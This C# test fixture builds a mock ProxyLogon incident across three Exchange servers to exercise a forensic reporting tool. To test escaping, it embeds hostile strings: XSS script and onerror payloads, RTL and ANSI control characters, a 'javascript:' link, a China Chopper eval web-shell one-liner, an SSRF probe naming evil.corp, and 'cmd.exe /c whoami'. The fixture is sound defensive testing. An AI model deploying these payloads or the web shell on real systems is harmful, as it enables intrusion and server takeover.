using Exir.Case;
using Exir.Case.Playbook;
using Exir.Core.Findings;

namespace Exir.Reporting.Tests;

/// <summary>
/// A case of three Exchange servers built by hand (the store is another component): EXCH01 compromised (web shell,
/// SSRF, LSASS dump, a domain admin in the shell's process tree), EXCH02 attacked without success, EXCH03 clean but
/// with thin coverage. The attacker's text is hostile everywhere it can be: markup, control characters, an RTL override.
/// </summary>
internal static class CaseReportFixtures
{
    public const string Script = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED2'\">";
    public const string Rtl = "\u202E";
    public const string Esc = "\u001b[31m";
    public static readonly DateTimeOffset Now = new(2021, 3, 8, 12, 0, 0, TimeSpan.Zero);
    /// <summary>When the organisation learnt of the breach; Art. 33's 72 hours ran out at 2021-03-08 07:00 UTC.</summary>
    public static readonly DateTimeOffset Aware = new(2021, 3, 5, 7, 0, 0, TimeSpan.Zero);
    /// <summary>The first and last hour with activity: the plot's window must come from these, nothing else.</summary>
    public static readonly DateTimeOffset FirstActivity = new(2021, 3, 2, 22, 0, 0, TimeSpan.Zero);
    public static readonly DateTimeOffset LastActivityHour = new(2021, 3, 4, 9, 0, 0, TimeSpan.Zero);
    /// <summary>A web shell's modification time on the copied collection: a copy time that must not stretch the plot.</summary>
    public static readonly DateTimeOffset CopyTime = new(2021, 3, 7, 16, 30, 0, TimeSpan.Zero);

    public static readonly string H1 = HostIds.For("EXCH01"), H2 = HostIds.For("EXCH02"), H3 = HostIds.For("EXCH03");
    private const string Scan1 = "scan-0190a0000000700080000000000000a1", Scan2 = "scan-0190a0000000700080000000000000a2",
        Scan3 = "scan-0190a0000000700080000000000000a3", Timeline1 = "scan-0190a0000000700080000000000000b1", Inventory = "scan-0190a0000000700080000000000000c1";

    public static CaseSnapshot Snapshot()
    {
        var t0 = new DateTimeOffset(2021, 3, 3, 2, 15, 7, 123, TimeSpan.Zero);
        var findings = new List<Finding>
        {
            new()
            {
                RuleId = "PL-SSRF-ECP", Title = "ProxyLogon SSRF to the ECP back end", Severity = Severity.Critical, Outcome = Outcome.Success,
                Cves = ["CVE-2021-26855"], Attack = ["T1190"], Host = "EXCH01", HostId = H1, ScanId = Scan1, Artifact = "Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG",
                Line = 1842, Timestamp = t0, TimeSource = TimeSources.LogLine, ClientIp = "203.0.113.7", Incident = "INC-1A2B3C4D5E",
                Evidence = "2021-03-03T02:15:07.123Z,POST,/ecp/y.js,X-BEResource=localhost~1942062522, UA=" + Script,
                Details = new Dictionary<string, string> { ["UrlStem"] = "/ecp/y.js", ["UrlQuery"] = "?a='1'\\b", ["UserAgent"] = Script, ["log_format"] = "HttpProxy" },
                Explanation = "A request reached the ECP back end through the front end's SSRF.", Id = "f-00000000000000000001",
            },
            new()
            {
                RuleId = "PL-SSRF-ECP", Title = "ProxyLogon SSRF to the ECP back end", Severity = Severity.Critical, Outcome = Outcome.Success,
                Cves = ["CVE-2021-26855"], Attack = ["T1190"], Host = "EXCH01", HostId = H1, ScanId = Scan1, Artifact = "Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG",
                Line = 1843, Timestamp = t0.AddSeconds(2), TimeSource = TimeSources.LogLine, ClientIp = "203.0.113.7", Incident = "INC-1A2B3C4D5E",
                Evidence = "POST /ecp/DDI/DDIService.svc/SetObject " + Esc + "red" + Rtl + "txt.aspx", Id = "f-00000000000000000002",
                Details = new Dictionary<string, string> { ["UrlStem"] = "/ecp/DDI/DDIService.svc/SetObject" },
            },
            new()
            {
                RuleId = "FILE-KNOWN-SHELL-PATH", Title = "Web shell in a path ProxyLogon attackers used", Severity = Severity.Critical, Outcome = Outcome.Success,
                Attack = ["T1505.003"], Host = "EXCH01", HostId = H1, ScanId = Scan1, Artifact = "inetpub/wwwroot/aspnet_client/sys'tem\\x" + Rtl + "xsa.aspx",
                Timestamp = CopyTime, TimeSource = TimeSources.FileModified, Evidence = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
                Details = new Dictionary<string, string> { ["sha256"] = new string('a', 64), ["size"] = "88" }, Id = "f-00000000000000000003", Incident = "INC-1A2B3C4D5E",
            },
            new()
            {
                RuleId = "FILE-LSASS-DUMP", Title = "LSASS memory dump", Severity = Severity.Critical, Outcome = Outcome.Success, Attack = ["T1003.001"],
                Host = "EXCH01", HostId = H1, ScanId = Scan1, Artifact = "ProgramData/lsass.dmp", Evidence = "MDMP header; dumped process lsass.exe",
                Details = new Dictionary<string, string>(), Id = "f-00000000000000000004",
            },
            new()
            {
                RuleId = "PL-SSRF-AUTODISCOVER", Title = "Exploit attempt on /autodiscover", Severity = Severity.High, Outcome = Outcome.Attempt,
                Cves = ["CVE-2021-26855"], Host = "EXCH02", HostId = H2, ScanId = Scan2, Artifact = "W3SVC1/u_ex210303.log", Line = 77,
                Timestamp = new DateTimeOffset(2021, 3, 3, 3, 1, 0, TimeSpan.Zero), TimeSource = TimeSources.LogLine, ClientIp = "2001:db8::7",
                Evidence = "GET /autodiscover/autodiscover.json @evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp 404", Id = "f-00000000000000000005",
                Incident = "INC-1A2B3C4D5E", Details = new Dictionary<string, string> { ["cs-uri-stem"] = "/autodiscover/autodiscover.json" },
            },
            new()
            {
                RuleId = "UA-NMAP", Title = "Scanner user agent", Severity = Severity.Low, Outcome = Outcome.Indicator, Host = "EXCH02", HostId = H2, ScanId = Scan2,
                Artifact = "W3SVC1/u_ex210303.log", Line = 12, Timestamp = new DateTimeOffset(2021, 3, 3, 1, 0, 0, TimeSpan.Zero), TimeSource = TimeSources.LogLine,
                ClientIp = "198.51.100.99", Evidence = "Mozilla/5.0 (compatible; Nmap Scripting Engine)", Id = "f-00000000000000000006",
            },
            new()
            {
                RuleId = "EVT-4688-W3WP-CMD", Title = "Command shell started by IIS worker", Severity = Severity.High, Outcome = Outcome.Success, Attack = ["T1059.003"],
                Host = "EXCH01", HostId = H1, ScanId = Scan1, Artifact = "Security.evtx", Line = 552233, Timestamp = new DateTimeOffset(2021, 3, 3, 2, 40, 0, TimeSpan.Zero),
                TimeSource = TimeSources.EventRecord, ClientIp = "not-an-ip", Evidence = "cmd.exe /c whoami", Id = "f-00000000000000000007",
            },
        };
        return new CaseSnapshot
        {
            StoreDescription = "SQLite /cases/contoso.db",
            SchemaVersion = 3,
            ReadUtc = Now,
            Settings = new CaseSettings { Name = "Contoso Exchange 2021-03", Organisation = "Contoso GmbH", AwareUtc = Aware, TimeZone = "Europe/Berlin", PersonalData = true },
            Hosts =
            [
                new CaseHost(H1, "EXCH01", Now.AddDays(-2), Now.AddDays(-1)),
                new CaseHost(H2, "EXCH02", Now.AddDays(-2), Now.AddDays(-1)),
                new CaseHost(H3, "EXCH03", Now.AddDays(-2), Now.AddDays(-1)),
            ],
            Scans =
            [
                Run(Scan1, "scan", "/evidence/exch01"), Run(Scan2, "scan", "/evidence/exch02.zip", "b".PadRight(64, 'b')), Run(Scan3, "scan", "/evidence/exch03"),
                Run(Timeline1, "timeline", "/evidence/exch01/evtx") with { RecordedBy = "import" }, Run(Inventory, "inventory", "inventory.csv"),
            ],
            HostScans =
            [
                new CaseHostScan
                {
                    ScanId = Scan1, HostId = H1, HostName = "EXCH01", EvidencePath = "/evidence/exch01", EvidenceKind = "folder", Verdict = VerdictKind.Compromised,
                    Headline = "Compromised", ExchangeBuild = "15.1.2176.2", FindingCount = 5, FinishedUtc = Now.AddDays(-1),
                    PatchStatus = new PatchStatus { Build = "15.1.2176.2", Product = "Exchange Server 2016", Cu = "CU19", Precision = "su", Source = "ExSetup.exe", Action = "patch",
                        OpenCves = ["CVE-2021-26855", "CVE-2021-27065"], FixedBy = new UpdateInfo("March 2021 SU", "KB5000871", "15.1.2176.9") },
                    Coverage = new CaseCoverage
                    {
                        FilesSeen = 1200, FilesRead = 1180, BytesRead = 5L << 30,
                        Families =
                        [
                            new CaseLogFamily("HttpProxy/Ecp", 40, 1_234_567, 3, 1L << 28, new DateTimeOffset(2020, 12, 1, 0, 0, 0, TimeSpan.Zero), Now.AddDays(-1),
                                [(new DateOnly(2021, 2, 10), new DateOnly(2021, 2, 12))]),
                            new CaseLogFamily("IIS W3SVC1", 90, 9_000_000, 0, 1L << 30, new DateTimeOffset(2020, 12, 1, 0, 0, 0, TimeSpan.Zero), Now.AddDays(-1), []),
                        ],
                        IssueCounts = new Dictionary<string, long> { ["Unreadable"] = 2 },
                        Issues = [new CaseCoverageIssue("Unreadable", "Logging/<b>locked</b>.LOG", "sharing violation " + Script)],
                        ChecksNotRun = new Dictionary<string, string> { ["CVE-2021-26857"] = "no Application event log in the evidence" },
                    },
                },
                new CaseHostScan
                {
                    ScanId = Scan2, HostId = H2, HostName = "EXCH02", EvidencePath = "/evidence/exch02.zip", EvidenceKind = "zip", EvidenceSha256 = "b".PadRight(64, 'b'),
                    Verdict = VerdictKind.Attempted, FindingCount = 2, FinishedUtc = Now.AddDays(-1).AddHours(1),
                    Coverage = new CaseCoverage { FilesSeen = 10, FilesRead = 10, BytesRead = 1 << 20,
                        Families = [new CaseLogFamily("IIS W3SVC1", 10, 20_000, 0, 1 << 20, new DateTimeOffset(2021, 2, 20, 0, 0, 0, TimeSpan.Zero), Now.AddDays(-2), [])] },
                },
                new CaseHostScan
                {
                    ScanId = Scan3, HostId = H3, HostName = "EXCH03", EvidencePath = "/evidence/exch03", Verdict = VerdictKind.NoEvidenceFound, FinishedUtc = Now.AddDays(-1).AddHours(2),
                    Coverage = new CaseCoverage { FilesSeen = 3, FilesRead = 3, UnknownLogFiles = 4 },
                },
            ],
            Findings = findings,
            FindingCounts =
            [
                new CaseFindingCount(H1, "PL-SSRF-ECP", "ProxyLogon SSRF to the ECP back end", Severity.Critical, Outcome.Success, 1250, 2),
                new CaseFindingCount(H1, "FILE-KNOWN-SHELL-PATH", "Web shell in a path ProxyLogon attackers used", Severity.Critical, Outcome.Success, 1, 1),
                new CaseFindingCount(H1, "FILE-LSASS-DUMP", "LSASS memory dump", Severity.Critical, Outcome.Success, 1, 1),
                new CaseFindingCount(H1, "EVT-4688-W3WP-CMD", "Command shell started by IIS worker", Severity.High, Outcome.Success, 1, 1),
                new CaseFindingCount(H2, "PL-SSRF-AUTODISCOVER", "Exploit attempt on /autodiscover", Severity.High, Outcome.Attempt, 1, 1),
                new CaseFindingCount(H2, "UA-NMAP", "Scanner user agent", Severity.Low, Outcome.Indicator, 1, 1),
            ],
            TotalFindings = 1255,
            Campaigns =
            [
                new Incident("INC-1A2B3C4D5E", ["203.0.113.7", "2001:db8::7"], t0, new DateTimeOffset(2021, 3, 3, 3, 1, 0, TimeSpan.Zero), Severity.Critical, Outcome.Success,
                    ["CVE-2021-26855"], "02:15 SSRF to /ecp/y.js from 203.0.113.7 on EXCH01\n03:01 the same attacker probes EXCH02 " + Script, 1253) { Hosts = ["EXCH01", "EXCH02"] },
            ],
            Activity =
            [
                new CaseActivityBucket(H1, FirstActivity, 40, 0),
                new CaseActivityBucket(H1, new DateTimeOffset(2021, 3, 3, 2, 0, 0, TimeSpan.Zero), 5000, 1252),
                new CaseActivityBucket(H1, new DateTimeOffset(2021, 3, 3, 3, 0, 0, TimeSpan.Zero), 800, 0),
                new CaseActivityBucket(H2, new DateTimeOffset(2021, 3, 3, 1, 0, 0, TimeSpan.Zero), 20, 1),
                new CaseActivityBucket(H2, new DateTimeOffset(2021, 3, 3, 3, 0, 0, TimeSpan.Zero), 60, 1),
                new CaseActivityBucket(H3, new DateTimeOffset(2021, 3, 3, 12, 0, 0, TimeSpan.Zero), 7, 0),
                new CaseActivityBucket(H3, LastActivityHour, 3, 0),
            ],
            TimelineEvents = 48_211,
            TimelineRows =
            [
                new CaseTimelineRow(H1, new DateTimeOffset(2021, 3, 3, 2, 40, 0, TimeSpan.Zero), "Process created", "Security", "process", 4688, "NT AUTHORITY\\SYSTEM", null,
                    "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami " + Script + Esc, "A new process has been created.", "Security.evtx", 552233, ["web-shell-child", "recon"]),
                new CaseTimelineRow(H1, new DateTimeOffset(2021, 3, 3, 2, 55, 0, TimeSpan.Zero), "Logon", "Security", "logon", 4624, "CONTOSO\\da-admin", "10.0.0.5",
                    null, null, "An account was successfully logged on.", "Security.evtx", 552300, ["admin-logon", "domain-admin"]),
            ],
            AdminAccess =
            [
                new CaseAdminAccount
                {
                    Account = "CONTOSO\\da-admin", Display = "Domain Admin", Hosts = ["EXCH01"], Logons = 4, PrivilegedLogons = 4, SourceIps = ["10.0.0.5"],
                    Cmdlets = ["New-MailboxExportRequest"], Privileged = true, DomainAdmin = true, InWebShellTree = true,
                    FirstUtc = new DateTimeOffset(2021, 3, 3, 2, 55, 0, TimeSpan.Zero), LastUtc = new DateTimeOffset(2021, 3, 3, 3, 5, 0, TimeSpan.Zero), FirstEvidence = "Security.evtx#552300",
                },
                new CaseAdminAccount { Account = "CONTOSO\\helpdesk", Hosts = ["EXCH02"], Logons = 1, FailedLogons = 3, Privileged = true, SourceIps = ["10.0.0.9"] },
            ],
            Assessments =
            [
                new CaseAssessment { ScanId = Inventory, HostId = H3, Target = "EXCH03", Build = "15.2.986.42", Product = "Exchange Server 2019", Cu = "CU12", Supported = true,
                    Action = "none", Source = "inventory.csv", AtUtc = Now.AddDays(-1) },
            ],
            Quarantine =
            [
                new CaseQuarantineItem { Id = "q-1", HostId = H1, OriginalPath = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x'sa.aspx", Sha256 = new string('c', 64), Size = 88,
                    State = "quarantined", QuarantinedUtc = Now.AddHours(-20), By = "alice", Machine = "EXCH01", RuleId = "FILE-KNOWN-SHELL-PATH", Note = "China Chopper" },
            ],
            Steps = [new CaseStepRecord("patch", StepStates.Done, "EXCH02 patched", "bob", Now.AddDays(-1))],
            StepHistory =
            [
                new CaseStepRecord("patch", StepStates.Open, null, "bob", Now.AddDays(-2)),
                new CaseStepRecord("patch", StepStates.Done, "EXCH02 patched", "bob", Now.AddDays(-1)),
            ],
            Notes =
            [
                new CaseNote(1, H1, "Firewall rule 443 closed at 09:10.\nSecond line " + Script, "alice", Now.AddDays(-2)),
                new CaseNote(2, null, "Called the LKA cybercrime contact point.", "bob", Now.AddHours(-5)),
            ],
            EvidenceFiles =
            [
                new CaseEvidenceFile(Scan1, H1, "Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG", new string('1', 64)),
                new CaseEvidenceFile(Scan1, H1, "inetpub/wwwroot/aspnet_client/xsa.aspx", new string('a', 64)),
                new CaseEvidenceFile(Scan2, H2, "W3SVC1/u_ex210303.log", new string('2', 64)),
            ],
            EvidenceFileCount = 7,
        };
    }

    private static CaseScan Run(string id, string verb, string input, string? sha = null) => new()
    {
        ScanId = id, Verb = verb, ToolVersion = "0.1.0", RulesOrigin = "embedded", RulesVersion = "41 files, sha256:0a1b2c3d", KnowledgeOrigin = "embedded (2026-11-28)",
        Command = $"exir {verb} {input} --case /cases/contoso.db", Input = input, InputKind = "folder", InputSha256 = sha,
        StartedUtc = Now.AddDays(-1).AddMinutes(-10), FinishedUtc = Now.AddDays(-1), Machine = "IR-LAPTOP", User = "alice", RecordedUtc = Now.AddDays(-1),
    };

    /// <summary>The checklist as the playbook would give it for this case (titles in the report's language).</summary>
    public static Checklist Checklist(string lang)
    {
        bool de = lang == "de";
        ChecklistItem Item(string id, string kind, string en, string deTitle, Need need) => new()
        {
            Id = id, Kind = kind, Title = de ? deTitle : en, Need = need,
            Text = de ? "Was zu tun ist, in einfachen Worten." : "What to do, in plain words.",
        };
        return new Checklist(
        [
            Item("patch", "step", "Patch or shut down", "Patchen oder abschalten", Need.Required) with
            {
                State = StepStates.Done, StateBy = "bob", StateAtUtc = Now.AddDays(-1), StateNote = "EXCH02 patched " + Script,
            },
            Item("assume-compromise", "step", "Assume compromise", "Von einer Kompromittierung ausgehen", Need.Required) with
            {
                Reasons = [de ? "EXCH01 ist kompromittiert (Webshell gefunden)." : "EXCH01 is compromised (web shell found)."],
            },
            Item("forensics", "step", "Forensics on process activity and admin access", "Forensik zu Prozessaktivität und Admin-Zugriffen", Need.Required),
            Item("ad-rebuild", "step", "Rebuild Active Directory", "Active Directory neu aufbauen", Need.Recommended) with
            {
                Reasons = [de ? "Ein Domänen-Admin erscheint im Prozessbaum einer Webshell." : "A domain admin appears in a web shell's process tree."],
            },
            Item("gdpr-33", "duty", "Notify the supervisory authority (GDPR Art. 33)", "Meldung an die Aufsichtsbehörde (Art. 33 DSGVO)", Need.Required) with
            {
                DeadlineUtc = Aware.AddHours(72), DeadlineLocal = de ? "Mo 08.03.2021 08:00 MEZ" : "Mon 08.03.2021 08:00 CET", TimeLeft = Aware.AddHours(72) - Now, Missed = true,
                References = ["GDPR Art. 33", "javascript:alert(1)"],
            },
            Item("dpo", "duty", "Consult the data protection officer", "Datenschutzbeauftragte/n einbeziehen", Need.Required) with
            {
                DeadlineUtc = Now.AddHours(41).AddMinutes(20), DeadlineLocal = de ? "Mi 10.03.2021 06:20 MEZ" : "Wed 10.03.2021 06:20 CET", TimeLeft = TimeSpan.FromMinutes(41 * 60 + 20),
            },
            Item("bsi-kritis", "duty", "Report to the BSI (KRITIS)", "Meldung an das BSI (KRITIS)", Need.NotApplicable) with { State = StepStates.NotApplicable, StateBy = "carol" },
            Item("art-34", "duty", "Inform the data subjects (GDPR Art. 34)", "Betroffene benachrichtigen (Art. 34 DSGVO)", Need.Optional) with
            {
                DeadlineNote = de ? "Der Zeitpunkt der Kenntnisnahme ist nicht gesetzt." : "The time of awareness is not set.",
            },
        ], lang, Now, "2026.12.01");
    }

    /// <summary>A case with nothing in it: every section must still render and say so.</summary>
    public static CaseSnapshot Empty() => new() { StoreDescription = "SQLite /tmp/empty.db", SchemaVersion = 3, ReadUtc = Now, Settings = new CaseSettings() };
}
